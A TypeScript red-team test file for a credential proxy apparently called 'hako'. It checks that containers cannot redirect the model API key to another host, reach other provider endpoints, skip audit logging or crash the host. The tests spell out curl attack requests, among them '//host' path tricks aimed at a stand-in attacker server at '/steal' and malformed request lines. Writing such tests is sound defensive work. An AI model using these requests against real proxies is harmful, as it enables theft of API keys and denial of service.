// Red team: the model route of the proxy socket, attacked from inside a real container. The
// container may ask the proxy only for the calls a model turn needs; nothing it sends can steer
// the real key to another host, reach the rest of the provider's API, or stop the host.

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { startRecordingServer, type RecordingServer } from '../support/raw-http.ts';
import { attack, MODEL_KEY, stillServes, startFixture, type Fixture } from './support.ts';

let f: Fixture;
let attacker: RecordingServer;

before(async () => { [f, attacker] = await Promise.all([startFixture(), startRecordingServer()]); });
after(async () => { await f?.close(); await attacker?.close(); });

const curl = (method: string, target: string) => `curl -s -m 10 --path-as-is -X ${method} -H 'authorization: Bearer x' -H 'content-type: application/json' -d '{}' 'http://127.0.0.1:3128${target}'; echo " rc=$?"`;

describe('the model route', () => {
  test('attack 38 - send the model key to any host: //host, backslashes and dot segments in the model route path, from every group', async () => {
    const to = `127.0.0.1:${attacker.port}`;
    for (const group of ['team', 'main']) {
      const from = f.model.requests.length;
      const out = await attack(f, group, [
        curl('POST', `/openai//${to}/steal`),
        curl('POST', `/anthropic//${to}/steal`),
        curl('POST', `/openai/\\\\${to}/steal`),
        curl('POST', `/openai/..//${to}/steal`),
        curl('GET', `/openai//${to}`),
      ]);
      for (const o of out) assert.match(o, /hako refused/, o);
      assert.ok(!out.join('').includes(MODEL_KEY));
      assert.equal(f.model.requests.slice(from).filter((r) => !r.path.startsWith('/v1/chat/completions')).length, 0, 'the model upstream got only model calls');
    }
    assert.deepEqual(attacker.seen, [], 'the attacker\'s host received nothing, let alone the key');
  });

  test('attack 39 - use the rest of the provider API with the real key, and the other provider\'s route', async () => {
    const from = f.model.requests.length;
    const out = await attack(f, 'team', [
      curl('DELETE', '/openai/files/file-1'),
      curl('POST', '/openai/batches'),
      curl('POST', '/openai/chat/completions?x=1'),
      curl('POST', '/anthropic/v1/messages'),
    ]);
    for (const o of out) assert.match(o, /hako refused/, o);
    assert.match(out[3]!, /served by openai; the anthropic route is closed/);
    const extra = f.model.requests.slice(from).filter((r) => r.method !== 'POST' || r.path !== '/v1/chat/completions');
    assert.deepEqual(extra.map((r) => `${r.method} ${r.path}`), [], 'only the scripted model calls reached the upstream');
    const audit = JSON.parse((await f.hako.cli(['audit', '--kind', 'egress', '--group', 'team', '--json', '--limit', '10000'])).stdout) as { data: { kind: string; allowed: boolean; method: string; path: string } }[];
    const refused = audit.filter((r) => r.data.kind === 'model' && !r.data.allowed).map((r) => `${r.data.method} ${r.data.path}`);
    for (const want of ['DELETE /openai/files/file-1', 'POST /openai/batches', 'POST /anthropic/v1/messages']) assert.ok(refused.includes(want), `audited: ${want}`);
    assert.ok(audit.some((r) => r.data.kind === 'model' && r.data.allowed && r.data.path === '/openai/chat/completions'), 'allowed model calls are audited too');
  });

  test('attack 40b - call the model while its audit record cannot be written: refused, and nothing reaches the upstream', async () => {
    // The host's audit table refuses the records of GET decisions (as a full disk would), so
    // the agent's own POSTs still work and only the container's GET /models has no record.
    const db = new DatabaseSync(path.join(f.hako.home, 'hako.db'));
    db.exec('PRAGMA busy_timeout = 5000');
    db.exec(`CREATE TRIGGER redteam_audit_down BEFORE INSERT ON audit WHEN NEW.kind = 'egress' AND json_extract(NEW.data, '$.method') = 'GET' BEGIN SELECT RAISE(ABORT, 'redteam: the audit log cannot be written'); END`);
    const from = f.model.requests.length;
    let out: string[];
    try {
      out = await attack(f, 'team', [curl('GET', '/openai/models')]);
    } finally {
      db.exec('DROP TRIGGER redteam_audit_down');
      db.close();
    }
    assert.match(out[0]!, /hako could not record the model request, so it refused it/, out[0]);
    assert.deepEqual(f.model.requests.slice(from).filter((r) => r.method === 'GET').map((r) => r.path), [], 'the upstream got no unrecorded call');
    assert.ok(f.hako.logEvents().some((e) => e.level === 'error' && e.msg === 'audit append failed' && e.group === 'team'), 'the owner sees why in the log');
    await stillServes(f, 'team');
  });

  test('attack 40 - kill the host with a malformed request line (GET /anthropic//[x), again and again', async () => {
    const out = await attack(f, 'team', [
      `for i in 1 2 3; do printf 'GET /anthropic//[x HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n' | timeout 5 curl -s --unix-socket /run/hako/proxy.sock -X GET --path-as-is 'http://x/anthropic//[x' -g; echo " rc=$?"; done`,
      `curl -s -m 10 -g --path-as-is 'http://127.0.0.1:3128/openai//[x'; echo " rc=$?"; curl -s -m 10 -g 'http://127.0.0.1:3128/openai/%ff'; echo " rc=$?"`,
    ]);
    assert.match(out[0]!, /hako refused/, out[0]);
    assert.match(out[1]!, /hako refused/, out[1]);
    assert.equal(f.hako.child.exitCode, null, 'the host is still running');
    await stillServes(f, 'team');
    await stillServes(f, 'main');
  });
});
